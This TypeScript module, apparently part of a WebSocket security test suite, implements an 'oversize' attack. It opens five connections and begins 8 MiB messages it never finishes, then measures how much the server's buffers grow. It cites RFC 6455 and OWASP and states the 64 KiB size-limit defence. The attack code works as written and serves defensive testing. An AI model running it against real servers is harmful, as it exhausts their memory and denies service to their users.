// Messages far too large, on several connections at once, none of which ever ends: who does not stop reading holds them all.
import { basic, mebibytes, readingOf } from '../asking.ts'
import type { Attack } from '../attack.ts'
import { encode } from '../frames.ts'
import { raid } from '../raid.ts'
import { openAll, told } from '../wss.ts'
import type { Wss } from '../wss.ts'

const CONNECTIONS = 5
const MESSAGE_BYTES = 8 * 2 ** 20
/** Whoever refuses has done it by then. */
const SETTLED_MS = 2000
const CHUNK = Buffer.alloc(256 * 1024, 'x')

export const attack: Attack = {
  slug: 'oversize',
  title: 'Messages that are too large',
  from: 'socket',
  defences: ['message-size'],
  about: `On each of ${CONNECTIONS} connections, begins one message of ${mebibytes(MESSAGE_BYTES)} and never sends the end of it.`,
  why: [
    'A WebSocket message is handed to the application whole. Until its last byte is there the server has to keep the others, and a frame may announce 2^63 bytes. Without a bound the memory of the server is as large as its attackers like; many libraries have a default of 100 MiB for each connection, and some have none.',
    'The defence: at most 64 KiB (messageBytes in /limits). The length stands in the head of the frame, so a message that is too large is refused with close code 1009 before any of it is kept; fragments are added up.',
  ],
  source: {
    name: 'RFC 6455 §10.4; OWASP WebSocket Security Cheat Sheet, “Denial of Service”',
    url: 'https://www.rfc-editor.org/rfc/rfc6455#section-10.4',
  },

  run: (target, signal) =>
    raid(target, signal, async (raid) => {
      const sockets = await openAll(raid, target, CONNECTIONS, { Authorization: basic(target.attacker) })
      const before = await readingOf(target, raid.over)
      const codes = await Promise.all(sockets.map(pour))
      const grown = (await readingOf(target, raid.over)).bufferBytes - before.bufferBytes
      const taken = codes.filter((code) => code === undefined).length
      return {
        succeeded: taken > 0,
        seen: [
          `began ${CONNECTIONS} messages of ${mebibytes(MESSAGE_BYTES)}: ${told(codes, 'taken, and more is waited for')}`,
          `sent ${mebibytes(raid.spent.bytes)}; the server’s buffers grew by ${mebibytes(Math.max(0, grown))}`,
        ],
      }
    }),
}

/** @returns the code that the line was closed with; undefined when the server is still waiting for the end. */
async function pour({ line, closeCode }: Wss): Promise<number | undefined> {
  const head = encode({ claims: BigInt(MESSAGE_BYTES) })
  await line.write(head)
  for (let sent = 0; sent < MESSAGE_BYTES - CHUNK.length; sent += CHUNK.length) {
    const code = await closeCode(0)
    if (code !== undefined) return code
    await line.write(CHUNK)
  }
  return closeCode(SETTLED_MS)
}
